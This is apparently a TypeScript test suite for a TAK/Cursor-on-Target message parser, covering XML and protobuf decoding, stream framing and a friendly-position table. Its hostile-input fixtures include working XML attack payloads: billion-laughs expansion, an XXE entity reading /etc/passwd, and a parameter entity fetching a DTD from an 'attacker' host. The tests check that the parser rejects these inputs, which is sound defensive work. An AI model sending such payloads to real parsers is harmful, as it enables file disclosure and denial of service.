import fc from 'fast-check';
import { CoTParser } from '@tak-ps/node-cot';
import { describe, expect, it } from 'vitest';
import { parseCotTime, parseCotXml } from '../../../src/ingest/cot/parse.js';
import { parseXml } from '../../../src/ingest/cot/xml.js';
import { decodeTakMesh, decodeTakPayload } from '../../../src/ingest/cot/takproto.js';
import { CotStreamCutter, type StreamMessage } from '../../../src/ingest/cot/stream.js';
import { BlueForceTable, blueForceFromCot, isBlueForceType } from '../../../src/ingest/cot/blue-force.js';
import { encodeTakPayload, encodeTakStream, meshFrame, streamFrame } from '../../../src/outputs/tak/takproto.js';
import { cotEventToXml, type CotEvent } from '../../../src/outputs/tak/event.js';

/** An ATAK self-SA event as devices send it (structure from the TAK detail schemas). */
const ATAK_SA =
  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n' +
  '<event version="2.0" uid="ANDROID-589520ccfcd20f01" type="a-f-G-U-C" how="m-g" time="2025-05-01T19:50:57.629Z" ' +
  'start="2025-05-01T19:50:57.629Z" stale="2025-05-01T19:56:57.629Z">' +
  '<point lat="26.0977" lon="-98.2365" hae="15.0" ce="9.9" le="9999999.0"/>' +
  '<detail><takv device="SAMSUNG SM-G998U" platform="ATAK-CIV" os="33" version="4.10.0"/>' +
  '<contact callsign="HOPE" endpoint="*:-1:stcp"/><__group name="Cyan" role="Team Member"/>' +
  '<precisionlocation geopointsrc="GPS" altsrc="GPS"/><status battery="88"/><track course="270.0" speed="1.2"/><uid Droid="HOPE"/></detail></event>';

const withAttr = (extra: string) => ATAK_SA.replace('<event version="2.0"', `<event version="2.0" ${extra}`);

describe('CoT XML in', () => {
  it('reads an ATAK SA event into a blue-force position', () => {
    const r = parseCotXml(ATAK_SA);
    expect(r.ok).toBe(true);
    if (!r.ok) return;
    expect(r.event).toMatchObject({
      uid: 'ANDROID-589520ccfcd20f01', type: 'a-f-G-U-C', how: 'm-g', latDeg: 26.0977, lonDeg: -98.2365, haeM: 15, ceM: 9.9, leM: 9999999,
      timeMs: Date.UTC(2025, 4, 1, 19, 50, 57, 629), staleMs: Date.UTC(2025, 4, 1, 19, 56, 57, 629),
      detail: { contact: { callsign: 'HOPE', endpoint: '*:-1:stcp' }, group: { name: 'Cyan', role: 'Team Member' }, track: { course: 270, speed: 1.2 } },
    });
    expect(isBlueForceType(r.event.type)).toBe(true);
    const p = blueForceFromCot(r.event);
    expect(p).toMatchObject({ callsign: 'HOPE', heightAboveEllipsoidM: 15, ceM: 9.9, leM: null, courseDeg: 270, speedMps: 1.2, group: { name: 'Cyan', role: 'Team Member' } });
    // node-cot agrees on the essentials.
    const theirs = CoTParser.from_xml(ATAK_SA).raw.event;
    expect(theirs._attributes.uid).toBe(r.event.uid);
    expect(Number(theirs.point._attributes.lat)).toBe(r.event.latDeg);
  });

  it('accepts what the schema allows: any fraction digits, offsets, single quotes, comments, CDATA, references', () => {
    const xml =
      "<!-- from a gateway --><event version='2.0' uid='x' type='a-a-G;extra' how='h-e' time='2025-05-01T19:50:57Z' start='2025-05-01T21:50:57.123456+02:00' stale='2025-05-01T20:00:00.5Z'>" +
      "<point lat='-33.35' lon='44.383333' hae='-12' ce='1E2' le='0'/><detail><remarks>a <![CDATA[<b> & ]]> &#x263A; &amp;&#10;z</remarks></detail></event>";
    const r = parseCotXml(xml);
    expect(r.ok).toBe(true);
    if (!r.ok) return;
    expect(r.event.startMs).toBe(Date.UTC(2025, 4, 1, 19, 50, 57, 123));
    expect(r.event.staleMs).toBe(Date.UTC(2025, 4, 1, 20, 0, 0, 500));
    expect(r.event.ceM).toBe(100);
    expect(r.event.detail.remarks).toBe('a <b> &  \u263A &\nz');
  });

  it('parses times strictly: calendar and clock ranges, zones', () => {
    expect(parseCotTime('2024-02-29T00:00:00Z')).toBe(Date.UTC(2024, 1, 29));
    expect(parseCotTime('2023-02-29T00:00:00Z')).toBeNull();
    expect(parseCotTime('2025-13-01T00:00:00Z')).toBeNull();
    expect(parseCotTime('2025-01-01T24:00:00Z')).toBeNull();
    expect(parseCotTime('2025-01-01T00:00:00-05:30')).toBe(Date.UTC(2025, 0, 1, 5, 30));
    expect(parseCotTime('2025-01-01 00:00:00Z')).toBeNull();
    expect(parseCotTime('0000-01-01T00:00:00Z')).toBeNull();
    expect(parseCotTime(undefined)).toBeNull();
  });

  const hostile: [string, string, string][] = [
    ['billion laughs', '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">]><event>&lol2;</event>', 'doctype'],
    ['external entity (XXE)', '<?xml version="1.0"?><!DOCTYPE event [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><event uid="&xxe;"/>', 'doctype'],
    ['parameter entity', '<!DOCTYPE e [<!ENTITY % p SYSTEM "http://attacker/x.dtd"> %p;]><event/>', 'doctype'],
    ['bare entity declaration', '<event><!ENTITY a "b"></event>', 'entity'],
    ['undeclared entity', ATAK_SA.replace('HOPE"', '&xxe;"'), 'entity'],
    ['deep nesting', '<event>' + '<a>'.repeat(100_000 / 3) + '</a>'.repeat(100_000 / 3) + '</event>', 'too-large'],
    ['deep nesting within the size limit', '<event>' + '<a>'.repeat(5000) + '</a>'.repeat(5000) + '</event>', 'too-deep'],
    ['huge attribute', withAttr(`x="${'A'.repeat(10 * 1024 * 1024)}"`), 'too-large'],
    ['long attribute within the size limit', withAttr(`x="${'A'.repeat(20_000)}"`), 'attribute-too-long'],
    ['attribute flood', withAttr(Array.from({ length: 40 }, (_, i) => `a${i}="1"`).join(' ')), 'too-many-attributes'],
    ['element flood', ATAK_SA.replace('<detail>', '<detail>' + '<x/>'.repeat(5000)), 'too-many-elements'],
    ['long text', ATAK_SA.replace('<detail>', `<detail><remarks>${'x'.repeat(20_000)}</remarks>`), 'text-too-long'],
    ['processing instruction', '<?xml-stylesheet href="evil.xsl"?>' + ATAK_SA.replace(/^<\?xml[^>]*>\n/, ''), 'processing-instruction'],
    ['duplicate attribute', withAttr('uid="other"'), 'duplicate-attribute'],
    ['NUL character reference', ATAK_SA.replace('HOPE"', 'HO&#0;PE"'), 'bad-char-ref'],
    ['surrogate reference', ATAK_SA.replace('HOPE"', '&#xD800;"'), 'bad-char-ref'],
    ['raw control character', ATAK_SA.replace('HOPE"', 'HO\u0001PE"'), 'bad-char'],
    ['mismatched tag', ATAK_SA.replace('</detail>', '</details>'), 'mismatched-tag'],
    ['unclosed root', ATAK_SA.replace('</event>', ''), 'malformed'],
    ['second root', ATAK_SA + '<event/>', 'trailing-content'],
    ['< in an attribute', withAttr('x="a<b"'), 'malformed'],
    ['empty', '', 'empty'],
    ['not an event', '<html><body/></html>', 'not-event'],
    ['version 1.1', ATAK_SA.replace('version="2.0"', 'version="1.1"'), 'bad-version'],
    ['missing uid', ATAK_SA.replace(' uid="ANDROID-589520ccfcd20f01"', ''), 'bad-uid'],
    ['bad type', ATAK_SA.replace('a-f-G-U-C', 'a f'), 'bad-type'],
    ['bad how', ATAK_SA.replace('how="m-g"', 'how="m--g"'), 'bad-how'],
    ['bad time', ATAK_SA.replace('time="2025-05-01T19:50:57.629Z"', 'time="yesterday"'), 'bad-time'],
    ['stale before start', ATAK_SA.replace('stale="2025-05-01T19:56:57.629Z"', 'stale="2025-05-01T19:00:00Z"'), 'stale-before-start'],
    ['no point', ATAK_SA.replace(/<point[^>]*\/>/, ''), 'missing-point'],
    ['two points', ATAK_SA.replace(/(<point[^>]*\/>)/, '$1$1'), 'duplicate-point'],
    ['latitude 91', ATAK_SA.replace('lat="26.0977"', 'lat="91"'), 'bad-lat'],
    ['longitude NaN', ATAK_SA.replace('lon="-98.2365"', 'lon="NaN"'), 'bad-lon'],
    ['hae Infinity', ATAK_SA.replace('hae="15.0"', 'hae="Infinity"'), 'bad-hae'],
    ['ce 1e400', ATAK_SA.replace('ce="9.9"', 'ce="1e400"'), 'bad-ce'],
    ['negative le', ATAK_SA.replace('le="9999999.0"', 'le="-1"'), 'bad-le'],
  ];
  for (const [name, xml, reason] of hostile) {
    it(`rejects ${name} with the reason "${reason}"`, () => {
      const t0 = performance.now();
      const r = parseCotXml(Buffer.from(xml, 'utf8'));
      expect(r.ok).toBe(false);
      if (!r.ok) expect(r.reason, r.message).toBe(reason);
      expect(performance.now() - t0).toBeLessThan(250);
    });
  }

  it('rejects invalid UTF-8', () => {
    const b = Buffer.from(ATAK_SA, 'utf8');
    b[b.indexOf('HOPE')] = 0xc3; // a lead byte followed by ASCII
    const r = parseCotXml(b);
    expect(!r.ok && r.reason).toBe('bad-utf8');
  });

  it('never throws and stays fast on arbitrary strings (property)', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 400 }), (s) => {
        const r = parseCotXml(s);
        expect(typeof r.ok).toBe('boolean');
      }),
      { numRuns: 3000 },
    );
    fc.assert(
      fc.property(fc.integer({ min: 0, max: ATAK_SA.length }), fc.string({ maxLength: 20 }), (at, ins) => {
        const r = parseXml(ATAK_SA.slice(0, at) + ins + ATAK_SA.slice(at));
        expect(typeof r.ok).toBe('boolean');
      }),
      { numRuns: 3000 },
    );
  });

  it('is linear on many attributes in a big document (no rescanning)', () => {
    const big = '<event>' + '<a x="1" y="2" z="3"/>'.repeat(1000) + '<b>' + 'y'.repeat(40_000) + '</b></event>';
    const t0 = performance.now();
    const r = parseXml(big, { maxElements: 5000, maxTextLength: 50_000 });
    expect(r.ok).toBe(true);
    expect(performance.now() - t0).toBeLessThan(200);
  });
});

const T = Date.UTC(2025, 4, 1, 12);
function ev(over: Partial<CotEvent> = {}): CotEvent {
  return {
    uid: 'BLUE-1', type: 'a-f-G-U-C', how: 'm-g', timeMs: T, startMs: T, staleMs: T + 60_000, latDeg: 26.1, lonDeg: -98.2, haeM: 30, ceM: 5, leM: 10,
    detail: { contact: { callsign: 'BRAVO 1' }, group: { name: 'Blue', role: 'Team Lead' }, track: { course: 12.5, speed: 3 } }, ...over,
  };
}

describe('TAK protocol v1 in', () => {
  it('decodes mesh datagrams and stream payloads to the event', () => {
    const e = ev();
    const mesh = decodeTakMesh(meshFrame(encodeTakPayload(e)));
    expect(mesh.ok && mesh.event).toEqual(e);
    const payload = decodeTakPayload(encodeTakPayload(e, { minProtoVersion: 1, maxProtoVersion: 1 }));
    expect(payload.ok && payload.control).toEqual({ minProtoVersion: 1, maxProtoVersion: 1 });
  });

  it('prefers xmlDetail over a typed message for the same element (detail.proto rule 5)', () => {
    const e = ev({ detail: { contact: { callsign: 'TYPED' }, xmlDetail: '<contact callsign="FROM-XML"/>' } });
    const r = decodeTakPayload(encodeTakPayload(e));
    expect(r.ok && r.event.detail.contact?.callsign).toBe('FROM-XML');
  });

  const bad: [string, Uint8Array, string][] = [
    ['empty', new Uint8Array(0), 'empty'],
    ['a group (wire type 3)', Uint8Array.of(0x0b, 0x0b, 0x0b, 0x0c, 0x0c, 0x0c), 'bad-protobuf'],
    ['deeply nested groups', Uint8Array.from({ length: 60_000 }, () => 0x0b), 'bad-protobuf'],
    ['a length past the end', Uint8Array.of(0x12, 0x7f, 0x01), 'bad-protobuf'],
    ['a truncated varint', Uint8Array.of(0x12, 0x05, 0x30, 0xff, 0xff, 0xff, 0xff), 'bad-protobuf'],
    ['an overlong varint', Uint8Array.of(0x08, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0x01), 'bad-protobuf'],
    ['a string field sent as a varint', Uint8Array.of(0x12, 0x02, 0x28, 0x01), 'bad-protobuf'],
    ['field number 0', Uint8Array.of(0x02, 0x00), 'bad-protobuf'],
    ['TakControl only', encodeTakPayload(null, { minProtoVersion: 1, maxProtoVersion: 1 }), 'no-event'],
    ['no uid', encodeTakPayload(ev({ uid: '' })), 'bad-uid'],
    ['no stale time', encodeTakPayload(ev({ staleMs: 0, startMs: 0 })), 'bad-time'],
    ['NaN latitude', encodeTakPayload(ev({ latDeg: NaN })), 'bad-lat'],
    ['negative ce', encodeTakPayload(ev({ ceM: -1 })), 'bad-ce'],
    ['a DOCTYPE in xmlDetail', encodeTakPayload(ev({ detail: { xmlDetail: '<!DOCTYPE x>' } })), 'doctype'],
    ['an entity in xmlDetail', encodeTakPayload(ev({ detail: { xmlDetail: '<remarks>&xxe;</remarks>' } })), 'entity'],
    ['oversize', new Uint8Array(70_000), 'too-large'],
  ];
  for (const [name, bytes, reason] of bad) {
    it(`rejects ${name} with "${reason}"`, () => {
      const r = decodeTakPayload(bytes);
      expect(r.ok).toBe(false);
      if (!r.ok) expect(r.reason, r.message).toBe(reason);
    });
  }

  it('rejects broken mesh headers and other protocol versions', () => {
    const p = encodeTakPayload(ev());
    expect(decodeTakMesh(Uint8Array.of(0xbf, 0x01))).toMatchObject({ ok: false, reason: 'bad-frame' });
    expect(decodeTakMesh(Uint8Array.of(0xbf, 0x01, 0x00, ...p))).toMatchObject({ ok: false, reason: 'bad-frame' });
    expect(decodeTakMesh(meshFrame(p, 2))).toMatchObject({ ok: false, reason: 'unsupported-version' });
    expect(decodeTakMesh(Uint8Array.of(0x3c, ...p))).toMatchObject({ ok: false, reason: 'bad-frame' });
  });

  it('never throws on arbitrary bytes (property)', () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 300 }), (b) => {
        expect(typeof decodeTakPayload(b).ok).toBe('boolean');
        expect(typeof decodeTakMesh(Uint8Array.of(0xbf, 0x01, 0xbf, ...b)).ok).toBe('boolean');
      }),
      { numRuns: 5000 },
    );
  });
});

describe('TCP stream cutting', () => {
  const xmlA = cotEventToXml(ev({ uid: 'A' }));
  const xmlB = cotEventToXml(ev({ uid: 'B' }));
  const protoC = encodeTakStream(ev({ uid: 'C' }));

  function cut(chunks: Uint8Array[], max = 64 * 1024) {
    const got: StreamMessage[] = [];
    const rejects: string[] = [];
    const c = new CotStreamCutter((m) => got.push(m), (r) => rejects.push(r), max);
    for (const ch of chunks) c.push(ch);
    return { got, rejects, cutter: c };
  }
  const uidOf = (m: StreamMessage) => {
    const r = m.kind === 'xml' ? parseCotXml(m.bytes) : decodeTakPayload(m.payload);
    return r.ok ? r.event.uid : `!${r.reason}`;
  };

  it('cuts XML after </event> and protobuf by length, however the bytes are chunked (property)', () => {
    const stream = Buffer.concat([Buffer.from(xmlA), Buffer.from(xmlB), protoC, Buffer.from('\n' + xmlA), protoC]);
    fc.assert(
      fc.property(fc.array(fc.integer({ min: 1, max: stream.length }), { maxLength: 20 }), (cuts) => {
        const points = [...new Set(cuts)].sort((a, b) => a - b);
        const chunks: Uint8Array[] = [];
        let prev = 0;
        for (const p of [...points, stream.length]) {
          chunks.push(stream.subarray(prev, p));
          prev = p;
        }
        const { got, rejects } = cut(chunks);
        expect(rejects).toEqual([]);
        expect(got.map(uidOf)).toEqual(['A', 'B', 'C', 'A', 'C']);
      }),
      { numRuns: 500 },
    );
  });

  it('skips an oversized XML message up to its </event> and keeps going, holding bounded memory', () => {
    const huge = '<event uid="x">' + 'y'.repeat(300_000) + '</event>';
    const stream = Buffer.from(xmlA + huge + xmlB);
    const chunks: Uint8Array[] = [];
    for (let i = 0; i < stream.length; i += 1000) chunks.push(stream.subarray(i, i + 1000));
    const got: StreamMessage[] = [];
    const rejects: string[] = [];
    const c = new CotStreamCutter((m) => got.push(m), (r) => rejects.push(r), 16 * 1024);
    let maxBuffered = 0;
    for (const ch of chunks) {
      c.push(ch);
      maxBuffered = Math.max(maxBuffered, c.buffered);
    }
    expect(got.map(uidOf)).toEqual(['A', 'B']);
    expect(rejects).toEqual(['too-large']);
    expect(maxBuffered).toBeLessThanOrEqual(16 * 1024 + 1000);
  });

  it('skips an oversized protobuf message by its length and stays in step', () => {
    const big = streamFrame(new Uint8Array(100_000));
    const { got, rejects } = cut([protoC, big.subarray(0, 5000), big.subarray(5000), Buffer.from(xmlB)], 16 * 1024);
    expect(got.map(uidOf)).toEqual(['C', 'B']);
    expect(rejects).toEqual(['too-large']);
  });

  it('reports a broken protobuf header and stops until reset', () => {
    const { got, rejects, cutter } = cut([Uint8Array.of(0xbf, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff), Buffer.from(xmlA)]);
    expect(rejects).toEqual(['bad-frame']);
    expect(got).toEqual([]);
    expect(cutter.broken).toBe(true);
    cutter.reset();
    cutter.push(Buffer.from(xmlA));
    expect(got.map(uidOf)).toEqual(['A']);
  });
});

describe('blue-force table', () => {
  it('keeps the latest position per uid and ignores older ones', () => {
    const t = new BlueForceTable();
    expect(t.upsert(blueForceFromCot(ev({ timeMs: T + 1000 })))).toBe(true);
    expect(t.upsert(blueForceFromCot(ev({ timeMs: T, latDeg: 0 })))).toBe(false);
    expect(t.get('BLUE-1')!.latDeg).toBe(26.1);
    expect(t.upsert(blueForceFromCot(ev({ timeMs: T + 2000, latDeg: 26.2 })))).toBe(true);
    expect(t.get('BLUE-1')!.latDeg).toBe(26.2);
  });

  it('expires stale positions and evicts the first to go stale when full', () => {
    const t = new BlueForceTable(3);
    for (let i = 0; i < 3; i++) t.upsert(blueForceFromCot(ev({ uid: `u${i}`, staleMs: T + 10_000 * (i + 1) })));
    t.upsert(blueForceFromCot(ev({ uid: 'u3', staleMs: T + 100_000 })));
    expect(t.list().map((p) => p.uid)).toEqual(['u1', 'u2', 'u3']);
    expect(t.expire(T + 25_000)).toBe(1);
    expect(t.list(T + 25_000).map((p) => p.uid)).toEqual(['u2', 'u3']);
    expect(t.upsert(blueForceFromCot(ev({ uid: 'old', staleMs: T })), T + 1)).toBe(false);
  });

  it('only friendly atoms are blue force', () => {
    expect(isBlueForceType('a-f-G-U-C')).toBe(true);
    expect(isBlueForceType('a-a-A-M-H-Q')).toBe(true);
    expect(isBlueForceType('a-h-A-M-H-Q')).toBe(false);
    expect(isBlueForceType('b-t-f')).toBe(false);
    expect(isBlueForceType('a-fx')).toBe(false);
  });
});
